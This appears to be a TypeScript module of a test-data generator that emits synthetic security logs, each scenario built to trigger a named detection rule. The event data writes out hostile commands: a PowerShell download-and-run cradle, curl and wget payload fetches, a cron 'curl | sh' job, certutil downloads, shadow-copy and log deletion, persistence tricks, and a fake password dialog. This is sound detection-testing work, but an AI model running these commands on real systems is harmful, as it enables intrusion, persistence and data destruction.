// True-positive scenarios embedded in the sample data, each built to match a
// concrete rule or hunt query of the detection-rules corpus (the `target`,
// relative to the detection-rules repository). The events follow each query's
// conditions and avoid its exclusions; the noise generators produce the benign
// look-alikes those exclusions exist for.
import type { ProcessInfo } from './ecs.ts';
import { processEvent } from './ecs.ts';
import { rememberShell, spawn, type FleetHost } from './fleet.ts';
import { acceptIn, connectOut, exec, exit, run, setRegistry, sshLogin, writeFile, type ActivityContext } from './activity.ts';
import type { JsonObject } from '../values.ts';

export interface SampleScenario {
  id: string;
  /** The rule or hunt file the events are built to match, relative to the detection-rules repository. */
  target: string;
  /** Name of the host the scenario plays on. */
  host: string;
  description: string;
  generate(ctx: ActivityContext, host: FleetHost, time: number): void;
}

/** A hands-on-keyboard shell opened over SSH by `userName` (sshd session + bash). */
function attackerShell(ctx: ActivityContext, host: FleetHost, time: number, userName: string, from: string, workingDirectory?: string): ProcessInfo {
  const user = host.users.find((u) => u.name === userName) ?? host.users[0];
  const sshd = host.resident.sshd;
  acceptIn(ctx, host, sshd, from, 22, time);
  const session = exec(ctx, host, sshd, { executable: '/usr/sbin/sshd', args: ['sshd:', `${user.name}@pts/${ctx.rng.int(0, 4)}`], user }, time + 100);
  const shell = exec(ctx, host, session, { executable: '/usr/bin/bash', args: ['-bash'], user, workingDirectory: workingDirectory ?? `/home/${user.name}` }, time + 150);
  rememberShell(host, shell);
  return shell;
}

function windowsCmd(ctx: ActivityContext, host: FleetHost, parent: ProcessInfo, time: number, integrity: 'High' | 'Medium' = 'Medium'): ProcessInfo {
  return exec(ctx, host, parent, { executable: 'C:\\Windows\\System32\\cmd.exe', args: ['C:\\Windows\\system32\\cmd.exe'], commandLine: '"C:\\Windows\\system32\\cmd.exe" ', windows: { integrity, originalFileName: 'Cmd.Exe' } }, time);
}

const MALICIOUS_DOWNLOAD = 'IEX (New-Object Net.WebClient).DownloadString(\'http://91.215.85.12/a.ps1\'); Invoke-Beacon -Sleep 60';

export const SAMPLE_SCENARIOS: readonly SampleScenario[] = [
  {
    id: 'dpkg-postinst-persistence',
    target: 'hunting/linux/queries/persistence_via_rpm_dpkg_installer_packages.toml',
    host: 'web-prod-02',
    description: 'A hand-installed .deb drops a postinst lifecycle script that downloads a binary and enables a service.',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'deploy', '10.10.4.77', '/tmp');
      const sudo = exec(ctx, host, shell, { executable: '/usr/bin/sudo', args: ['sudo', 'dpkg', '-i', '/tmp/sysupdate_1.0_amd64.deb'], workingDirectory: '/tmp' }, time + 4000);
      const dpkg = exec(ctx, host, sudo, { executable: '/usr/bin/dpkg', args: ['dpkg', '-i', '/tmp/sysupdate_1.0_amd64.deb'], user: host.root, workingDirectory: '/tmp' }, time + 4020);
      writeFile(ctx, host, dpkg, 'creation', '/var/lib/dpkg/info/sysupdate.list-new', time + 4100);
      writeFile(ctx, host, dpkg, 'creation', '/var/lib/dpkg/info/sysupdate.md5sums', time + 4105);
      writeFile(ctx, host, dpkg, 'creation', '/var/lib/dpkg/info/sysupdate.postinst', time + 4110);
      writeFile(ctx, host, dpkg, 'rename', '/var/lib/dpkg/info/sysupdate.list', time + 4120, '/var/lib/dpkg/info/sysupdate.list-new');
      const postinst = exec(ctx, host, dpkg, { executable: '/var/lib/dpkg/info/sysupdate.postinst', args: ['/bin/sh', '/var/lib/dpkg/info/sysupdate.postinst', 'configure', ''], workingDirectory: '/' }, time + 4200);
      const curl = run(ctx, host, postinst, { executable: '/usr/bin/curl', args: ['curl', '-fsSL', 'http://185.220.101.47/sysupdate', '-o', '/usr/local/bin/sysupdate'], workingDirectory: '/' }, time + 4210, 900);
      connectOut(ctx, host, curl, '185.220.101.47', 80, time + 4300);
      writeFile(ctx, host, curl, 'creation', '/usr/local/bin/sysupdate', time + 5000);
      writeFile(ctx, host, postinst, 'creation', '/etc/systemd/system/sysupdate.service', time + 5150);
      run(ctx, host, postinst, { executable: '/usr/bin/systemctl', args: ['systemctl', 'enable', '--now', 'sysupdate.service'], workingDirectory: '/' }, time + 5200, 300);
      exit(ctx, host, postinst, time + 5600);
      exit(ctx, host, dpkg, time + 5650);
      exit(ctx, host, sudo, time + 5660);
    },
  },
  {
    id: 'rpm-scriptlet-persistence',
    target: 'hunting/linux/queries/persistence_via_rpm_dpkg_installer_packages.toml',
    host: 'bastion-01',
    description: 'A hand-installed RPM whose %post scriptlet (run from /var/tmp/rpm-tmp.*) fetches a payload.',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'ec2-user', '10.10.4.77', '/tmp');
      const sudo = exec(ctx, host, shell, { executable: '/usr/bin/sudo', args: ['sudo', 'rpm', '-ivh', '/tmp/kernel-helper-1.0-1.x86_64.rpm'], workingDirectory: '/tmp' }, time + 3000);
      const rpm = exec(ctx, host, sudo, { executable: '/usr/bin/rpm', args: ['rpm', '-ivh', '/tmp/kernel-helper-1.0-1.x86_64.rpm'], user: host.root, workingDirectory: '/tmp' }, time + 3020);
      const scriptlet = exec(ctx, host, rpm, { executable: '/usr/bin/bash', args: ['/bin/sh', '/var/tmp/rpm-tmp.Qm3kZp', '1'], workingDirectory: '/' }, time + 3300);
      const wget = run(ctx, host, scriptlet, { executable: '/usr/bin/wget', args: ['wget', '-q', 'http://45.155.205.233/kh', '-O', '/usr/lib/kernel-helper/kh'], workingDirectory: '/' }, time + 3310, 1200);
      connectOut(ctx, host, wget, '45.155.205.233', 80, time + 3400);
      run(ctx, host, scriptlet, { executable: '/usr/bin/chmod', args: ['chmod', '+x', '/usr/lib/kernel-helper/kh'], workingDirectory: '/' }, time + 4600, 5);
      run(ctx, host, scriptlet, { executable: '/usr/lib/kernel-helper/kh', args: ['/usr/lib/kernel-helper/kh', '--daemon'], workingDirectory: '/' }, time + 4700, 60000);
      exit(ctx, host, scriptlet, time + 4800);
      exit(ctx, host, rpm, time + 4900);
      exit(ctx, host, sudo, time + 4910);
    },
  },
  {
    id: 'dnf-plugin-file-creation',
    target: 'rules/linux/persistence_dnf_package_manager_plugin_file_creation.toml',
    host: 'db-prod-01',
    description: 'A DNF plugin and its configuration copied into place by cp (not by a package manager).',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'ec2-user', '10.10.4.77', '/tmp/.x');
      const sudo = exec(ctx, host, shell, { executable: '/usr/bin/sudo', args: ['sudo', '-i'], workingDirectory: '/tmp/.x' }, time + 2000);
      const root = exec(ctx, host, sudo, { executable: '/usr/bin/bash', args: ['-bash'], user: host.root, workingDirectory: '/tmp/.x' }, time + 2050);
      const cpPlugin = exec(ctx, host, root, { executable: '/usr/bin/cp', args: ['cp', 'sysmon.py', '/usr/lib/python3.9/site-packages/dnf-plugins/sysmon.py'], workingDirectory: '/tmp/.x' }, time + 6000);
      writeFile(ctx, host, cpPlugin, 'creation', '/usr/lib/python3.9/site-packages/dnf-plugins/sysmon.py', time + 6005);
      exit(ctx, host, cpPlugin, time + 6010);
      const cpConf = exec(ctx, host, root, { executable: '/usr/bin/cp', args: ['cp', 'sysmon.conf', '/etc/dnf/plugins/sysmon.conf'], workingDirectory: '/tmp/.x' }, time + 9000);
      writeFile(ctx, host, cpConf, 'creation', '/etc/dnf/plugins/sysmon.conf', time + 9004);
      exit(ctx, host, cpConf, time + 9008);
    },
  },
  {
    id: 'vssadmin-shadow-deletion',
    target: 'rules/windows/impact_volume_shadow_copy_deletion_or_resized_via_vssadmin.toml',
    host: 'FIN-WS-0142',
    description: 'Ransomware pre-encryption step: vssadmin deletes all shadow copies from an elevated shell.',
    generate(ctx, host, time) {
      const cmd = windowsCmd(ctx, host, host.resident.explorer, time, 'High');
      run(ctx, host, cmd, {
        executable: 'C:\\Windows\\System32\\vssadmin.exe',
        args: ['vssadmin.exe', 'delete', 'shadows', '/all', '/quiet'],
        commandLine: 'vssadmin.exe delete shadows /all /quiet',
        windows: { integrity: 'High', originalFileName: 'VSSADMIN.EXE' },
      }, time + 3000, 2500);
    },
  },
  {
    id: 'office-child-cmd',
    target: 'rules/windows/initial_access_suspicious_ms_office_child_process.toml',
    host: 'HR-LT-0087',
    description: 'A macro document opened in Word spawns cmd.exe.',
    generate(ctx, host, time) {
      const doc = 'C:\\Users\\bob.martin\\Downloads\\Invoice_88213.doc';
      const word = exec(ctx, host, host.resident.explorer, {
        executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        args: ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '/n', doc],
        commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}"`,
        windows: { signer: 'Microsoft Corporation', originalFileName: 'WinWord.exe' },
      }, time);
      run(ctx, host, word, {
        executable: 'C:\\Windows\\System32\\cmd.exe',
        args: ['C:\\Windows\\System32\\cmd.exe', '/c', 'ipconfig', '/all', '&', 'net', 'group', '"domain admins"', '/domain'],
        commandLine: 'C:\\Windows\\System32\\cmd.exe /c ipconfig /all & net group "domain admins" /domain',
        windows: { originalFileName: 'Cmd.Exe' },
      }, time + 9000, 4000);
    },
  },
  {
    id: 'schtasks-created-from-cmd',
    target: 'rules/windows/persistence_local_scheduled_task_creation.toml',
    host: 'HR-LT-0087',
    description: 'cmd.exe creates a logon scheduled task running a dropped binary, within a minute.',
    generate(ctx, host, time) {
      const cmd = windowsCmd(ctx, host, host.resident.explorer, time, 'High');
      const args = ['schtasks', '/create', '/tn', 'MicrosoftEdgeUpdateTaskMachineCore2', '/tr', 'C:\\Users\\Public\\Libraries\\edgeupd.exe', '/sc', 'onlogon', '/ru', 'SYSTEM', '/f'];
      run(ctx, host, cmd, {
        executable: 'C:\\Windows\\System32\\schtasks.exe',
        args,
        windows: { integrity: 'High', originalFileName: 'schtasks.exe' },
      }, time + 8000, 400);
    },
  },
  {
    id: 'certutil-urlcache-download',
    target: 'rules/windows/defense_evasion_suspicious_certutil_commands.toml',
    host: 'HR-LT-0087',
    description: 'certutil -urlcache downloads a binary into C:\\Users\\Public.',
    generate(ctx, host, time) {
      const cmd = windowsCmd(ctx, host, host.resident.explorer, time);
      const certutil = run(ctx, host, cmd, {
        executable: 'C:\\Windows\\System32\\certutil.exe',
        args: ['certutil.exe', '-urlcache', '-split', '-f', 'http://194.26.192.77/update.bin', 'C:\\Users\\Public\\update.exe'],
        windows: { originalFileName: 'CertUtil.exe' },
      }, time + 2000, 3000);
      connectOut(ctx, host, certutil, '194.26.192.77', 80, time + 2200);
      writeFile(ctx, host, certutil, 'creation', 'C:\\Users\\Public\\update.exe', time + 4500);
    },
  },
  {
    id: 'run-key-persistence',
    target: 'rules/windows/persistence_run_key_and_startup_broad.toml',
    host: 'HR-LT-0087',
    description: 'PowerShell points a user Run key value at a binary in C:\\Users\\Public.',
    generate(ctx, host, time) {
      const executable = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
      const commandLine = `"${executable}" -NoProfile -Command "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name WindowsUpdateAssistant -Value C:\\Users\\Public\\update.exe"`;
      const powershell = exec(ctx, host, host.resident.explorer, { executable, args: [executable, '-NoProfile', '-Command', 'Set-ItemProperty', '-Path', 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '-Name', 'WindowsUpdateAssistant', '-Value', 'C:\\Users\\Public\\update.exe'], commandLine, windows: { originalFileName: 'PowerShell.EXE' } }, time);
      setRegistry(ctx, host, powershell, {
        hive: 'HKEY_USERS',
        key: `${host.users[0].id}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
        value: 'WindowsUpdateAssistant',
        strings: ['C:\\Users\\Public\\update.exe'],
      }, time + 1200);
      exit(ctx, host, powershell, time + 1500);
    },
  },
  {
    id: 'iis-webshell-whoami',
    target: 'rules/windows/discovery_whoami_command_activity.toml',
    host: 'IIS-WEB-02',
    description: 'A web shell dropped by the IIS worker runs whoami as the application pool identity.',
    generate(ctx, host, time) {
      const w3wp = host.resident.service;
      writeFile(ctx, host, w3wp, 'creation', 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorpage.aspx', time);
      acceptIn(ctx, host, w3wp, '5.188.86.172', 443, time + 60000);
      const cmd = exec(ctx, host, w3wp, { executable: 'C:\\Windows\\System32\\cmd.exe', args: ['cmd.exe', '/c', 'whoami', '/priv'], windows: { integrity: 'High', originalFileName: 'Cmd.Exe' } }, time + 60400);
      run(ctx, host, cmd, { executable: 'C:\\Windows\\System32\\whoami.exe', args: ['whoami', '/priv'], windows: { integrity: 'High', originalFileName: 'whoami.exe' } }, time + 60420, 60);
      exit(ctx, host, cmd, time + 60500);
    },
  },
  {
    id: 'encoded-powershell-download',
    target: 'hunting/windows/queries/suspicious_base64_encoded_powershell_commands.toml',
    host: 'DEV-WS-0311',
    description: 'Hidden PowerShell with a base64 (UTF-16LE) command that downloads and runs a script.',
    generate(ctx, host, time) {
      const executable = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
      const encoded = Buffer.from(MALICIOUS_DOWNLOAD, 'utf16le').toString('base64');
      const powershell = run(ctx, host, host.resident.explorer, {
        executable,
        args: ['powershell.exe', '-NoP', '-W', 'Hidden', '-Enc', encoded],
        commandLine: `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
        windows: { originalFileName: 'PowerShell.EXE' },
      }, time, 90000);
      connectOut(ctx, host, powershell, '91.215.85.12', 80, time + 1500);
    },
  },
  {
    id: 'osascript-password-prompt',
    target: 'rules/macos/credential_access_promt_for_pwd_via_osascript.toml',
    host: 'MBP-ASMITH',
    description: 'A dropped installer script asks the user for their password with an osascript dialog.',
    generate(ctx, host, time) {
      const user = host.users[0];
      const shell = exec(ctx, host, host.resident.init, { executable: '/bin/sh', args: ['/bin/sh', '/tmp/.installer.sh'], user, workingDirectory: '/tmp' }, time);
      const osascript = spawn(ctx.rng, host, shell, {
        executable: '/usr/bin/osascript',
        args: ['osascript', '-e', 'display dialog "macOS needs to update system settings. Enter your password to continue." with title "System Preferences" default answer "" with hidden answer with icon caution'],
        workingDirectory: '/tmp',
      });
      const event = processEvent(ctx.rng, host.info, osascript, 'start', time + 300);
      // Elastic Defend on macOS records the responsible ("effective") parent app.
      // A copy by string keys: the shared block's cached JSON (a symbol key) must not come along.
      const block = Object.fromEntries(Object.entries(event.process as JsonObject));
      event.process = { ...block, Ext: { effective_parent: { executable: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', name: 'Terminal' } } };
      ctx.emit('process', event);
      exit(ctx, host, osascript, time + 25000);
      exit(ctx, host, shell, time + 25100);
    },
  },
  {
    id: 'launch-agent-loaded',
    target: 'rules/macos/persistence_creation_change_launch_agents_file.toml',
    host: 'MBP-ASMITH',
    description: 'A dropped binary writes a launch agent plist and loads it with launchctl seconds later.',
    generate(ctx, host, time) {
      const user = host.users[0];
      const dropper = exec(ctx, host, host.resident.init, {
        executable: `/Users/${user.name}/Library/Application Support/.com.apple.sysupd/sysupd`,
        args: [`/Users/${user.name}/Library/Application Support/.com.apple.sysupd/sysupd`],
        user,
        workingDirectory: `/Users/${user.name}`,
      }, time);
      const plist = `/Users/${user.name}/Library/LaunchAgents/com.apple.sysupd.plist`;
      writeFile(ctx, host, dropper, 'launch_daemon', plist, time + 1500);
      run(ctx, host, dropper, { executable: '/bin/launchctl', args: ['launchctl', 'load', '-w', plist], workingDirectory: `/Users/${user.name}` }, time + 6500, 50);
      connectOut(ctx, host, dropper, '45.61.136.90', 443, time + 9000);
    },
  },
  {
    id: 'ssh-bruteforce-success',
    target: 'rules/linux/credential_access_potential_successful_linux_ssh_bruteforce.toml',
    host: 'bastion-01',
    description: '30 failed SSH password logins for one user from one address, then a success, within 15 seconds.',
    generate(ctx, host, time) {
      const from = '103.251.167.20';
      const sshd = host.resident.sshd;
      for (let i = 0; i < 30; i++) {
        sshLogin(ctx, host, { user: 'jsmith', sourceIp: from, sourcePort: 40000 + i * 7, success: false, method: 'password', sshdPid: sshd.pid }, time + i * 350);
      }
      sshLogin(ctx, host, { user: 'jsmith', sourceIp: from, sourcePort: 40300, success: true, method: 'password', sshdPid: sshd.pid }, time + 30 * 350 + 400);
      attackerShell(ctx, host, time + 30 * 350 + 500, 'jsmith', from);
    },
  },
  {
    id: 'system-log-deletion',
    target: 'rules/linux/defense_evasion_log_files_deleted.toml',
    host: 'bastion-01',
    description: 'Login records (wtmp, btmp, lastlog) deleted with rm from a root shell.',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'jsmith', '103.251.167.20');
      const sudo = exec(ctx, host, shell, { executable: '/usr/bin/sudo', args: ['sudo', 'rm', '-f', '/var/log/wtmp', '/var/log/btmp', '/var/log/lastlog'] }, time + 1000);
      const rm = exec(ctx, host, sudo, { executable: '/usr/bin/rm', args: ['rm', '-f', '/var/log/wtmp', '/var/log/btmp', '/var/log/lastlog'], user: host.root }, time + 1020);
      writeFile(ctx, host, rm, 'deletion', '/var/log/wtmp', time + 1025);
      writeFile(ctx, host, rm, 'deletion', '/var/log/btmp', time + 1026);
      writeFile(ctx, host, rm, 'deletion', '/var/log/lastlog', time + 1027);
      exit(ctx, host, rm, time + 1030);
      exit(ctx, host, sudo, time + 1035);
    },
  },
  {
    id: 'cron-file-persistence',
    target: 'hunting/linux/queries/persistence_via_cron.toml',
    host: 'web-prod-01',
    description: 'A cron.d entry written with tee, and cron later running its download-and-execute job.',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'ubuntu', '10.10.4.77');
      const job = '*/10 * * * * root curl -fsSL http://185.220.101.47/u.sh | sh';
      const sudo = exec(ctx, host, shell, { executable: '/usr/bin/sudo', args: ['sudo', 'tee', '/etc/cron.d/apache2-update'] }, time + 3000);
      const tee = exec(ctx, host, sudo, { executable: '/usr/bin/tee', args: ['tee', '/etc/cron.d/apache2-update'], user: host.root }, time + 3020);
      writeFile(ctx, host, tee, 'creation', '/etc/cron.d/apache2-update', time + 3025);
      exit(ctx, host, tee, time + 3030);
      exit(ctx, host, sudo, time + 3035);
      const sh = exec(ctx, host, host.resident.cron, { executable: '/usr/bin/dash', args: ['/bin/sh', '-c', job.slice(job.indexOf('root ') + 5)], workingDirectory: '/root' }, time + 600000);
      const curl = run(ctx, host, sh, { executable: '/usr/bin/curl', args: ['curl', '-fsSL', 'http://185.220.101.47/u.sh'], workingDirectory: '/root' }, time + 600010, 400);
      connectOut(ctx, host, curl, '185.220.101.47', 80, time + 600050);
      run(ctx, host, sh, { executable: '/usr/bin/dash', args: ['sh'], workingDirectory: '/root' }, time + 600012, 2000);
      exit(ctx, host, sh, time + 602100);
    },
  },
  {
    id: 'curl-piped-to-shell',
    target: 'rules/linux/execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter.toml',
    host: 'web-prod-01',
    description: '`curl http://…/install.sh | bash` from an interactive shell: curl starts, bash reads the script and ends within a second.',
    generate(ctx, host, time) {
      const shell = attackerShell(ctx, host, time, 'ubuntu', '10.10.4.77', '/tmp');
      const curl = exec(ctx, host, shell, { executable: '/usr/bin/curl', args: ['curl', '-s', 'http://198.51.100.23:8080/install.sh'], workingDirectory: '/tmp' }, time + 5000);
      const bash = exec(ctx, host, shell, { executable: '/usr/bin/bash', args: ['bash'], workingDirectory: '/tmp' }, time + 5002);
      connectOut(ctx, host, curl, '198.51.100.23', 8080, time + 5010);
      exit(ctx, host, curl, time + 5300);
      exit(ctx, host, bash, time + 5700);
    },
  },
];
